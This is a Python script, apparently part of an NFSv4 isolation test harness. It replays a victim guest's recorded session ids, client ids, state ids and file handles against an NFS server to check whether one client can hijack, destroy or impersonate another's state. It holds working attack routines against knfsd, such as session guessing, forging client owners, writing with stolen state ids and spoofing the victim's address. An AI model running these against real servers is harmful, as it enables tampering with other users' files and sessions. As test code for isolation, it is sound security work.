#!/usr/bin/python3
"""attack.py RECORDING PORT ATTACK...: one guest's attacks on another, of which it knows all that RECORDING and the server show.

RECORDING is the prefix of the victim's recorded calls (relay.py), PORT the attacker's own relay on 127.0.0.1. Prints a line "ATTACK WORD"
an attack: the status of NFSv4, the refusal of RPC, or "closed". It judges nothing. Options say what else an attack needs:
--victim ADDRESS, from which the server knows it; --file and --file40, paths of the files of its first WRITEs over 4.1 and over 4.0, or of
one that the attacker may use if those it may not. With --by-hand it is no guest at all but an ordinary user of the host, who says to the
server at PORT itself that he has the victim's address.
"""

import argparse
import os
from collections.abc import Callable
from dataclasses import dataclass

import nfs4
from loot import Loot, Shown, of_recording, of_server
from nfs4 import PUTROOTFH, Answer, Machine


@dataclass
class Attacker:
    """Attacker is who attacks, with all it knows. `machine` has a session of its own; each new() is one more connection."""
    args: argparse.Namespace
    loot: Loot
    clients: list[Shown]
    machine: Machine | None = None

    def new(self, **more) -> Machine:
        """new connects from a port below 1024, or by hand from the victim's address and a port that any user may have."""
        if self.args.by_hand:
            return Machine(self.args.port, privileged=False, source=self.args.victim, **{"uid": SQUASHED, **more})
        return Machine(self.args.port, **more)

    def alone(self, *operations: bytes, minor: int = 1) -> Answer:
        """alone says operations on a connection that has no session."""
        return self.new().say(*operations, minor=minor)

    def shown(self, minor: int) -> Shown:
        """shown is what the server shows of the victim's client of 4.0 (minor 0) or of a later version."""
        return next(client for client in self.clients if min(client.minor, 1) == minor)


def is_there(a: Attacker, session: bytes) -> Answer:
    return a.alone(nfs4.sequence(session, 1, slot=20))  # one that the victim has not come to use


def guess_session(a: Attacker, operation: Callable[[bytes], bytes]) -> Answer:
    """guess_session tries what knfsd's own session ids look like; the answer is the first that is not BADSESSION."""
    machine = a.new()
    for session in a.shown(1).sessions():
        said = machine.say(operation(session))
        if said.word != "BADSESSION":
            break
    return said


def take_over(a: Attacker) -> Answer:
    """take_over says the victim's owner, as the victim would after a restart."""
    return a.new().begin(a.loot.owner, b"rebooted")


def take_over40(a: Attacker) -> Answer:
    machine = a.new()
    made = machine.say(nfs4.set_client(b"rebooted", a.loot.owner40), minor=0)
    return machine.say(nfs4.confirm_client(made.last[:8], made.last[8:16]), minor=0) if made.word == "NFS4_OK" else made


def in_file(a: Attacker, operation: Callable[[bytes], bytes]) -> Answer:
    """in_file uses the victim's state id on its file, which the attacker finds by its name, in the attacker's session."""
    return a.machine.within(PUTROOTFH, *nfs4.walk(a.args.file), operation(a.loot.writes[1][1]))


def in_file40(a: Attacker, operation: bytes) -> Answer:
    return a.alone(PUTROOTFH, *nfs4.walk(a.args.file40), operation, minor=0)


def by_name(a: Attacker) -> Answer:
    """by_name makes a directory as uid 1000 of a machine that says that it is the victim."""
    machine = a.new(name=b"alpha", uid=1000)
    machine.session, machine.number = a.machine.session, a.machine.number
    a.machine.number += 1
    return machine.within(PUTROOTFH, nfs4.make_directory("by-name"))


def reserved_port(a: Attacker) -> Answer:
    """reserved_port connects as the gateway does: from the victim's address and a port below 1024."""
    try:
        Machine(a.args.port, source=a.args.victim)
    except PermissionError:
        return Answer("EACCES")
    return Answer("connected")


ORDINARY_USER = 1000
SQUASHED = 65534  # who the victim's root is at the server
SCRIBBLE = b"written by the attacker"
ATTACKS: dict[str, Callable[[Attacker], Answer]] = {
    "root": lambda a: a.machine.within(PUTROOTFH),  # no attack: what the attacker may do
    "root40": lambda a: a.alone(PUTROOTFH, *nfs4.walk(a.args.file40), minor=0),
    "write": lambda a: a.machine.within(PUTROOTFH, *nfs4.walk(a.args.file), nfs4.write(nfs4.NO_STATE, SCRIBBLE)),  # without an OPEN
    "handle": lambda a: a.machine.within(nfs4.putfh(a.loot.writes[1][0]), nfs4.read()),
    "handle40": lambda a: a.alone(nfs4.putfh(a.loot.writes[0][0]), nfs4.read(), minor=0),
    "sequence": lambda a: is_there(a, a.loot.session),
    "bind": lambda a: a.alone(nfs4.bind_connection(a.loot.session)),
    "destroy-session": lambda a: a.alone(nfs4.destroy_session(a.loot.session)),
    "guess-session": lambda a: guess_session(a, lambda session: nfs4.sequence(session, 1, slot=21)),
    "create-session": lambda a: a.alone(nfs4.create_session(a.loot.client, a.loot.sequence + 1)),
    "destroy-client": lambda a: a.alone(nfs4.destroy_client(a.loot.client)),
    "guess-client": lambda a: a.alone(nfs4.destroy_client(a.shown(1).client)),
    "renew": lambda a: a.alone(nfs4.renew(a.loot.client40), minor=0),
    "confirm": lambda a: a.alone(nfs4.confirm_client(a.loot.client40, a.loot.confirm40), minor=0),
    "guess-renew": lambda a: a.alone(nfs4.renew(a.shown(0).client), minor=0),
    "write-state": lambda a: in_file(a, lambda state: nfs4.write(state, SCRIBBLE)),
    "close-state": lambda a: in_file(a, nfs4.close),
    "unlock-state": lambda a: in_file(a, nfs4.unlock),
    "free-state": lambda a: a.machine.within(nfs4.free_state(a.loot.writes[1][1])),
    "write-state40": lambda a: in_file40(a, nfs4.write(a.loot.writes[0][1], SCRIBBLE)),
    "unlock-state40": lambda a: in_file40(a, nfs4.unlock(a.loot.writes[0][1])),
    "guess-state40": lambda a: in_file40(a, nfs4.write(a.shown(0).states[0], SCRIBBLE)),
    "owner": take_over,
    "owner40": take_over40,
    "name": by_name,
    "reserved-port": reserved_port,
    "guess-destroy": lambda a: guess_session(a, nfs4.destroy_session),
}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("recording")
    parser.add_argument("port", type=int)
    parser.add_argument("attacks", nargs="+", choices=ATTACKS)
    parser.add_argument("--victim", default="127.66.0.1")
    parser.add_argument("--file", default="held")
    parser.add_argument("--file40", default="held40")
    parser.add_argument("--by-hand", action="store_true")
    args = parser.parse_args()
    attacker = Attacker(args, of_recording(args.recording), of_server(args.victim))
    if args.by_hand:
        os.setgroups([])
        os.setgid(ORDINARY_USER)
        os.setuid(ORDINARY_USER)
    try:
        attacker.machine = attacker.new()
    except ConnectionRefusedError:
        print("begin refused")
        return
    print("begin", attacker.machine.begin(os.urandom(16)).word, flush=True)
    for name in args.attacks:
        print(name, ATTACKS[name](attacker).word, flush=True)


if __name__ == "__main__":
    main()
